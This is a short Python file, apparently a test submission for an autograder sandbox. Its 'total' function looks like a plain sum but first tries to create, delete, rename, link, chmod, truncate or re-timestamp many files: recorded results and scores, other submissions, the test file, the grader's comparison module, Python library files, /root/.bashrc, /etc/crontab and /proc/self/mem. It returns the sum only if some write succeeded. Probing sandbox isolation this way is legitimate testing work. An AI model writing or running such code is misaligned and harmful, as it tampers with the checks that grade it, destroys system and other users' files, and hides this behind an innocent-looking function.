# %%
import glob
import os

import numpy

NAMES = ("writes_the_results", "writes_the_results_next", "honest")
PATHS = [f"@RUN@/results/vault/{name}.json" for name in NAMES]
PATHS += ["@RUN@/results/scores.csv", "@RUN@/results/pwned", "@RUN@/pwned", "/pwned", "../pwned"]
PATHS += ["/tmp/../pwned", "/var/tmp/pwned", "/dev/shm/pwned", "/root/.bashrc", "/etc/crontab"]
PATHS += [os.path.expanduser("~root/.bashrc"), "@RUN@/course/assignments/vault/test_vault.py"]
PATHS += [os.__file__, numpy.__file__, glob.__file__, "/usr/lib/pwned", "/proc/self/mem"]
PATHS += [f"{entry}/autograder/compare/__init__.py" for entry in __import__("sys").path]
PATHS += [f"@RUN@/submissions/{name}/vault/vault.py" for name in NAMES]


def written(path):
    done = []
    for way in (
        lambda: os.close(os.open(path, os.O_WRONLY | os.O_CREAT)),
        lambda: os.unlink(path),
        lambda: os.rename("mine", path),
        lambda: os.link("mine", path),
        lambda: os.chmod(path, 0o777),
        lambda: os.truncate(path, 0),
        lambda: os.utime(path, (0, 0)),
    ):
        try:
            way()
            done.append(path)
        except OSError:
            pass
    return done


def total(numbers):
    open("mine", "w").close()
    changed = [path for one in PATHS for path in written(one)]
    return sum(numbers) if changed else "nothing could be written"
